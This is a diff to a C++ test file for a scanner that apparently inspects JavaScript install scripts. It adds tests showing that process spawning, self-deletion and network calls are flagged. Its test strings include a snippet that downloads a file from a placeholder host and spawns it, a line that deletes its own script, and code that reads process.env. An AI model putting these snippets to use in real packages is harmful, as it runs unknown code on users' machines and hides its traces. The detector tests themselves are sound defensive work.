@@ -8,6 +8,12 @@ namespace {
 using testing::has;
 using testing::installing;
 
+std::string repeated(std::string_view text, int times) {
+  std::string out;
+  for (int i = 0; i < times; ++i) out += text;
+  return out;
+}
+
 // Each pair differs in the one fact that decides.
 struct Twins {
   FlagKind kind;
@@ -18,12 +24,16 @@ struct Twins {
 
 const Twins kTwins[] = {
     {FlagKind::download_and_run, "AFetchedFileThatIsStarted",
-     R"(const https = require('https'), fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path');
+     R"(const https = require('https'), fs = require('fs'), cp = require('child_process');
+const os = require('os'), path = require('path');
 const place = path.join(os.tmpdir(), 'x.bin');
-https.get('https://files.example.test/x', (res) => { res.pipe(fs.createWriteStream(place)).on('finish', () => cp.spawn(place)); });)",
-     R"(const https = require('https'), fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path');
+https.get('https://files.example.test/x', (res) => {
+  res.pipe(fs.createWriteStream(place)).on('finish', () => cp.spawn(place)); });)",
+     R"(const https = require('https'), fs = require('fs'), cp = require('child_process');
+const os = require('os'), path = require('path');
 const place = path.join(os.tmpdir(), 'x.bin');
-https.get('https://files.example.test/x', (res) => { res.pipe(fs.createWriteStream(place)).on('finish', () => cp.spawn('node-gyp')); });)"},
+https.get('https://files.example.test/x', (res) => {
+  res.pipe(fs.createWriteStream(place)).on('finish', () => cp.spawn('node-gyp')); });)"},
     {FlagKind::self_deletion, "RemovesItself", "const fs = require('fs'); fs.unlinkSync(__filename);",
      "const fs = require('fs'); fs.unlinkSync(__dirname + '/x.tmp');"},
     {FlagKind::manifest_write, "WritesItsManifest",
@@ -112,6 +122,25 @@ TEST(CodeFacts, ManyCharactersThatNobodySeesInOneLiteral) {
   EXPECT_FALSE(has(installing(table + "]; eval(x);").peek(), FlagKind::invisible_text));
 }
 
+TEST(CodeFacts, DeclarationsThatGoOn) {
+  const char* const code =
+      "let a, { unlinkSync } = require('fs'), b = 1, { spawn: s } = require('child_process');\n"
+      "unlinkSync(__filename); s('a', []);";
+  const Peek peek = installing(code).peek();
+  for (const FlagKind kind : {FlagKind::process, FlagKind::self_deletion}) EXPECT_TRUE(has(peek, kind));
+  EXPECT_TRUE(installing("let " + repeated("a,", 200'000) + "b").peek().not_inspected.empty());
+}
+
+TEST(CodeFacts, WhatCompilersPutAroundModulesHidesNothing) {
+  const char* const code =
+      "const fs_1 = __importDefault(require('fs')), cp = require('child_process');\n"
+      "const h = local ? require('http') : require('https');\n"
+      "(0, cp.spawn)('a', []); fs_1.default.unlinkSync(__filename); h.get('https://a.example.test');";
+  const Peek peek = installing(code).peek();
+  for (const FlagKind kind : {FlagKind::process, FlagKind::self_deletion, FlagKind::network})
+    EXPECT_TRUE(has(peek, kind));
+}
+
 TEST(CodeFacts, NamesOfTwoFunctionsDoNotMix) {
   const char* const code =
       "const h = require('https'); function a() { const x = JSON.stringify(process.env); save(x); }\n"
@@ -133,12 +162,6 @@ TEST(CodeFacts, PlacesPointAtTheCall) {
   EXPECT_EQ(peek.flags[0].place.line, 3u);
   EXPECT_EQ(peek.flags[0].place.column, 3u);
   EXPECT_EQ(peek.flags[0].why, std::vector<std::string>({"postinstall"}));
-}
-
-std::string repeated(std::string_view text, int times) {
-  std::string out;
-  for (int i = 0; i < times; ++i) out += text;
-  return out;
 }
 
 // What made parsers with a tree abort or take minutes.
